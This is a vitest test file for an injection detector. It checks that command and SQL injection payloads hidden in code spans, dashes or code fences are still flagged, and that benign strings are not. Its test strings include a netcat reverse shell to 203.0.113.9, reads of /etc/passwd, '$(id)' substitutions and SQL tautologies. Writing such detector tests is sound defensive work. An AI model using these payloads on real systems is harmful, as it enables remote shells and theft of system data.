import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { carriersFlagging } from './carriers.js';

// Review of set 7's exemptions (rev6): payloads wrapped in the new shapes stay reported in every carrier.
const d = new InjectionDetector();

const carriers = (v: string) => carriersFlagging(d, v, true);

const ALL = ['query', 'form', 'json', 'raw'];

describe('set 7 exemptions wrapping a payload', () => {
  it.each([
    // a code span before an em/en dash or after a version label holding a command separator
    'see `x& whoami` — why',
    'look at `x| nc 203.0.113.9 4444 -e /bin/sh` – any idea',
    'PowerShell 7: `x& whoami` fails',
    'Node 20: `a; cat /etc/passwd` fails',
    // `& more` after a command earlier in the same parameter
    'report.pdf; sleep 14 & more',
    'x\nsleep 20 & more',
    'x | id & more',
    'PowerShell 7: `photo.png$(id)` fails',
    'see `x$(id)` — why',
    "ERROR 1064 near ' HAVING 1=1--",
    "syntax error near ' or sleep(5)#",
  ])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });
  // a fence opening a parameter (forms7) holding an odd quote or a substitution: the app's string or shell still runs it
  it.each([
    "```\nx' or 1=1--\n```",
    "```sql\n' or 'a'='a\n```\nwhy?",
    '```\n$(id)\n```',
    "```\n'| systeminfo\n```",
    '```\nx& whoami\n```',
    '```\nx; cat /etc/passwd\n```',
    '```\nx | nc 203.0.113.9 4444\n```',
  ])('reported in a query or form: %s', (v) => {
    const hit = carriers(v);
    expect(hit).toContain('query');
    expect(hit).toContain('form');
  });
  it.each(['```\nconst x = a ?? b\n```', "```js\nconst s = 'a'\n```\nwhy?"])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it.each([
    'salt & pepper shaker & more',
    'Go: `exec.Command("ls", "-l").Run()` — how do I read stdout?',
    'Ruby: `system("ls -l")` – is backticks faster?',
    'PowerShell 7: `Get-ChildItem -Recurse` is slow',
  ])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
});
